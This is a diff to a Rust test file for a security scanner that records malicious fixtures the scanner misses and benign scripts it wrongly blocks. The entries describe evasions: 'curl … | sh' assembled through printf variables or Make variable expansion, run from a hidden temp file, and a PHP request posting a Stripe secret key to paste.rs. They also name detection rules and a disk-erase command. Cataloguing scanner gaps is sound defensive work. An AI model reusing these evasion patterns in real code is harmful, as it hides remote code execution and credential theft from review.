@@ -19,6 +19,14 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "log-rotator-b62",
+        "batch 62 (first scan; redteam61 left it): the rotation script writes `/tmp/.lr_helper.sh` with `printf '%s%s %s | s%s\\n' \"$a\" \"$b\" \"$c\" \"h\"` (curl, its flags and the URL held in three variables, the shell's last letter a separate argument) and starts it with `nohup`; the written line is `curl … | sh` only once printf's format is filled from the variables, and no reading assembles a `printf` format with its arguments; `chmod +x` and `nohup` of a temporary file alone are what honest staged helpers do (the twin writes and runs a prune script the same way)",
+    ),
+    (
+        "proto-build-b62",
+        "batch 62 (first scan; redteam61 left it): the Makefile's `deps` target runs `$(FETCH) $(U) $(RUN)`, with `FETCH = cu$(strip r)l -fsS`, `U = ht$(T)s://…` and `RUN = | s$(strip h)`; the command is `curl … | sh` only after Make expands its variables and functions, and the scanner reads a recipe line as written; expanding Make's `$(…)` (and `$(strip …)`) before the rows read it would close it",
+    ),
+    (
         "refund-report-php-l47",
         "lead (PHP sends, left): `curl_setopt($ping, CURLOPT_POSTFIELDS, 'k=' . getenv('STRIPE_SECRET_KEY') …)` posts the key to paste.rs, but the same file reads Stripe with `'Authorization: Bearer ' . getenv(…)`; `env-secret-send` is spared for the whole block once any request in it authenticates in a header, in every language. Sparing only the sends that carry the header would need each request's options followed to its `curl_exec`",
     ),
@@ -162,6 +170,10 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
 
 /// Benign look-alikes the scanner is known to block, and why.
 const KNOWN_FALSE_POSITIVES: &[(&str, &str)] = &[
+    (
+        "win-cleanup-b62",
+        "batch 62's twin (first scan; redteam61 left it): after clearing `%TEMP%` the script downloads Microsoft's Sysinternals `DU.zip` from `download.sysinternals.com` into `%TEMP%`, expands it and runs `du64.exe` from there; `temp-download-run` (a download and a launch from a temporary folder in one block) is the dropper's shape, and the only difference is whose host it is; an official-vendor spare for that combination, as the installer rows have for `curl | sh`, would close it",
+    ),
     (
         "disk-decommission-b59",
         "batch 59 (first scan; redteam58 left it): a drive-retirement guide lists its method per drive type, `nvme format /dev/nvme1n1 --ses=1` in inline code, and its script runs `nvme format \"$DEV\" --ses=1 --force` on the device and serial the user gives, after a typed confirmation; `disk-wipe` blocks both; the instructions name a real device in a runnable erase, which a wiper's instructions do alike, and a spare for the script alone would leave the verdict unchanged",
